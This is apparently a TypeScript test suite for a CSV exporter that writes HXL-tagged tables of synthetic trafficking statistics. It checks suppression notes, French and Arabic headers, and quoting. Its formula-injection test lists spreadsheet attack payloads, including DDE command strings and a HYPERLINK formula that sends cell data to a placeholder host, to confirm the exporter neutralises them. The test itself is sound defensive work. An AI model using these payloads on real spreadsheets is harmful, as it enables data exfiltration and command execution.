import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { parse } from 'csv-parse/sync';
import type { DisclosureNote, ReleasedCell } from '../src/types.ts';
import {
  buildThematicReport, hotspotsTable, justiceTable, perpetratorsTable, section, trendsTable, victimsTable, type Release,
} from '../src/report/report-model.ts';
import { csvField, neutraliseFormula, reportToHxlCsv, tableToHxlCsv } from '../src/report/hxl-export.ts';

// Synthetic figures for "Testland" (XT) only.
const NOTE: DisclosureNote = { k: 10, mechanism: 'discrete-laplace', epsilon: 1, delta: 0, text: 'Counts below 10 suppressed; discrete Laplace noise, ε = 1.' };
const GLOTIP: DisclosureNote = { k: 5, mechanism: 'none', epsilon: 0, delta: 0, text: '' };
const shown = (key: Record<string, string>, value: number): ReleasedCell => ({ key, value, suppressed: false });
const hidden = (key: Record<string, string>): ReleasedCell => ({ key, value: undefined, suppressed: true });
const release = (cells: ReleasedCell[]): Release => ({ cells, note: NOTE });

const rows = (csv: string): string[][] => parse(csv, { bom: true, relax_column_count: false }) as string[][];
const SENTENCE = 'Counts below 10 are suppressed. Discrete Laplace noise added (ε = 1, sensitivity 1).';

describe('HXL-tagged CSV', () => {
  test('round-trips through csv-parse: label row, hashtag row, data with its note on every row', () => {
    const table = trendsTable(release([shown({ period: '2024-01' }, 1234), hidden({ period: '2024-02' }), shown({ period: '2024-03' }, 15)]));
    const csv = tableToHxlCsv(table);
    assert.ok(csv.endsWith('\r\n') && csv.split('\r\n').length === 6, 'CRLF between records (RFC 4180)');
    assert.deepEqual(rows(csv), [
      ['Month', 'Incidents', 'Note'],
      ['#date+month', '#event+num', '#meta+note'],
      ['2024-01', '1234', SENTENCE],
      ['2024-02', 'suppressed', SENTENCE],
      ['2024-03', '15', SENTENCE],
    ]);
  });

  test('censored values stay "<5", missing ones are empty, codes not words, the source in the note', () => {
    const table = justiceTable([{ country: 'XT', year: 2022, prosecuted: 12, convicted: { censored: true, below: 5 } }], GLOTIP, 'UNODC GLOTIP (synthetic extract)');
    assert.deepEqual(rows(tableToHxlCsv(table)).slice(1), [
      ['#country+code', '#date+year', '#indicator+num+prosecuted', '#indicator+num+convicted', '#meta+note'],
      ['XT', '2022', '12', '<5', 'Counts below 5 are suppressed. No noise added. Source: UNODC GLOTIP (synthetic extract).'],
    ]);
    const victims = victimsTable(release([shown({ sex: 'female', ageBand: '0-17' }, 18), shown({ sex: 'male', ageBand: '18+' }, 14)]));
    assert.deepEqual(rows(tableToHxlCsv(victims)).slice(1).map((r) => r.slice(0, 3)), [
      ['#meta+age_band', '#affected+f', '#affected+m'],
      ['0-17', '18', ''],
      ['18+', '', '14'],
    ]);
  });

  test('the header row follows the language; hashtags and codes do not', () => {
    const table = victimsTable(release([shown({ sex: 'female', ageBand: '18+' }, 30)]));
    const fr = rows(tableToHxlCsv(table, { lang: 'fr' }));
    assert.deepEqual(fr[0], ['Âge', 'Féminin', 'Note']);
    assert.deepEqual(fr[1], ['#meta+age_band', '#affected+f', '#meta+note']);
    assert.equal(fr[2]![0], '18+');
    assert.ok(fr[2]![2]!.startsWith('Les effectifs inférieurs à 10'));
    const ar = tableToHxlCsv(table, { lang: 'ar', bom: true });
    assert.ok(ar.startsWith('\uFEFF"العمر"'), 'a byte-order mark for spreadsheets that need one to read Arabic');
    assert.deepEqual(rows(ar)[1], ['#meta+age_band', '#affected+f', '#meta+note']);
  });

  test('formula injection: fields a spreadsheet would evaluate get a leading quote (OWASP)', () => {
    const hostile = ['=HYPERLINK("http://example.invalid/?x="&A1,"click")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\tTabbed group', '\rCarriage group'];
    const table = perpetratorsTable(release(hostile.map((g, i) => shown({ perpetratorGroup: g }, 50 - i))));
    const parsed = rows(tableToHxlCsv(table)).slice(2);
    assert.deepEqual(parsed.map((r) => r[0]), hostile.map((g) => `'${g}`));
    // a number we wrote ourselves stays a number: a negative Z-score is not a formula
    const hot = hotspotsTable([{ cell: '872830828ffffff', category: 'cold-95', z: -1.96, p: 0.05, test: 'Getis-Ord Gi*' }], NOTE);
    assert.deepEqual(rows(tableToHxlCsv(hot))[2]!.slice(0, 4), ['872830828ffffff', 'cold-95', '-1.96', '0.05']);
    assert.equal(neutraliseFormula('-12'), '-12');
    assert.equal(neutraliseFormula('-12 OR 1'), "'-12 OR 1");
    assert.equal(neutraliseFormula('Group = Alpha'), 'Group = Alpha', 'only a leading trigger matters');
  });

  test('quotes, commas, newlines and Arabic survive the round trip', () => {
    const names = ['Group "Alpha", north', 'Line one\r\nline two', 'مجموعة اختبار', ''];
    const table = perpetratorsTable(release(names.filter(Boolean).map((g, i) => shown({ perpetratorGroup: g }, 30 - i))));
    assert.deepEqual(rows(tableToHxlCsv(table)).slice(2).map((r) => r[0]), names.filter(Boolean));
    assert.equal(csvField('a "b", c'), '"a ""b"", c"');
  });

  test('every table of a report, one file each, named by table id', () => {
    const report = buildThematicReport({
      title: 'Testland report',
      period: { from: '2024-01', to: '2024-06' },
      area: { countries: ['XT'] },
      generatedAt: '2024-07-01T00:00:00Z',
      sections: [
        section('trends', [trendsTable(release([shown({ period: '2024-01' }, 12)]))]),
        section('perpetrators', [perpetratorsTable(release([hidden({ perpetratorGroup: 'Group Gamma' })]))]),
      ],
    });
    const files = reportToHxlCsv(report);
    assert.deepEqual(files.map((f) => f.fileName), ['trends.csv', 'perpetrators.csv']);
    assert.deepEqual(rows(files[1]!.csv)[2], ['Group Gamma', 'suppressed', SENTENCE]);
  });

  test('an empty table still has both header rows', () => {
    const csv = tableToHxlCsv(trendsTable(release([])));
    assert.deepEqual(rows(csv), [['Month', 'Incidents', 'Note'], ['#date+month', '#event+num', '#meta+note']]);
  });
});
